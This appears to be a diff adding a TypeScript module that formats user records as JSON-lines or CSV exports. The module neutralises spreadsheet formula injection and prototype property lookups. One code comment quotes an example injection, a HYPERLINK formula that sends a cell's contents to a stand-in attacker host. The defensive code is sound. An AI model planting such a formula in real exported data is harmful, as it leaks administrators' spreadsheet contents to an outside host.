@@ -1,0 +1,87 @@
+/**
+ * Users as the lines of an export: newline-delimited JSON, or CSV by RFC 4180 as Auth0 writes it ("Bulk user exports"). Takes a user as the
+ * Management API shows them, so no line can say more than `GET /users` does, and none has a password hash. No I/O.
+ */
+import type { UserExportField, UserExportFormat } from '../../ports/directory/user-exports.js';
+import type { Wire } from '../api/operation.js';
+
+/** The fields of an export that names none: Auth0's normalized profile, and the two times. */
+const USUAL_FIELDS: readonly UserExportField[] = [
+  'user_id',
+  'email',
+  'email_verified',
+  'name',
+  'given_name',
+  'family_name',
+  'nickname',
+  'picture',
+  'created_at',
+  'updated_at',
+].map((name) => ({ name }));
+
+/** Times that this server wrote: no person chooses their text. */
+const OWN_TIMES: ReadonlySet<string> = new Set(['created_at', 'updated_at', 'last_login']);
+
+/** `identities[0].connection` as `identities`, `0`, `connection`. */
+const toPath = (name: string): readonly string[] => name.replace(/\[(\d{1,4})\]/g, '.$1').split('.');
+
+/** The value at a path, or undefined. Own properties alone: `constructor` is no field of a user. */
+function valueAt(user: Wire, path: readonly string[]): unknown {
+  let value: unknown = user;
+  for (const step of path) {
+    if (typeof value !== 'object' || value === null || !Object.hasOwn(value, step)) return undefined;
+    value = (value as Wire)[step];
+  }
+  return value;
+}
+
+const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
+
+/**
+ * A text of a user as a cell. Attack stopped here: formula injection (OWASP "CSV Injection") by a person who calls themselves
+ * `=HYPERLINK("https://evil.example/?"&A1)`, whose name a spreadsheet of the administrator would run. As at Auth0, each text begins with a
+ * single quote, so that what a reader has to take away does not depend on the text.
+ */
+const toTextCell = (text: string) => quoted(`'${text}`);
+
+function toCell(name: string, value: unknown): string {
+  if (value === undefined || value === null) return '';
+  if (typeof value === 'number' || typeof value === 'boolean') return String(value);
+  if (typeof value !== 'string') return toTextCell(JSON.stringify(value));
+  return OWN_TIMES.has(name) ? value : toTextCell(value);
+}
+
+/** The title of a column: as it was asked for, unless a spreadsheet would run it. */
+function toTitle(title: string): string {
+  const inert = /^[=+\-@\t\r\n]/.test(title) ? `'${title}` : title;
+  return /[",\r\n]/.test(inert) ? quoted(inert) : inert;
+}
+
+/** The lines of a file, each with its end. */
+export interface ExportLines {
+  /** Comes before all lines; empty for JSON. */
+  readonly head: string;
+  toLine(user: Wire): string;
+}
+
+/** The lines of the fields that were asked for; undefined or none: the usual ones. A field that a user lacks is left out, or an empty cell. */
+export function createExportLines(format: UserExportFormat, asked: readonly UserExportField[] = []): ExportLines {
+  const columns = (asked.length > 0 ? asked : USUAL_FIELDS).map(({ name, exportAs }) => ({
+    name,
+    title: exportAs ?? name,
+    path: toPath(name),
+  }));
+  if (format === 'csv') {
+    return {
+      head: `${columns.map(({ title }) => toTitle(title)).join(',')}\r\n`,
+      toLine: (user) => `${columns.map(({ name, path }) => toCell(name, valueAt(user, path))).join(',')}\r\n`,
+    };
+  }
+  return {
+    head: '',
+    toLine(user) {
+      const entries = columns.map(({ title, path }) => [title, valueAt(user, path)]);
+      return `${JSON.stringify(Object.fromEntries(entries))}\n`;
+    },
+  };
+}
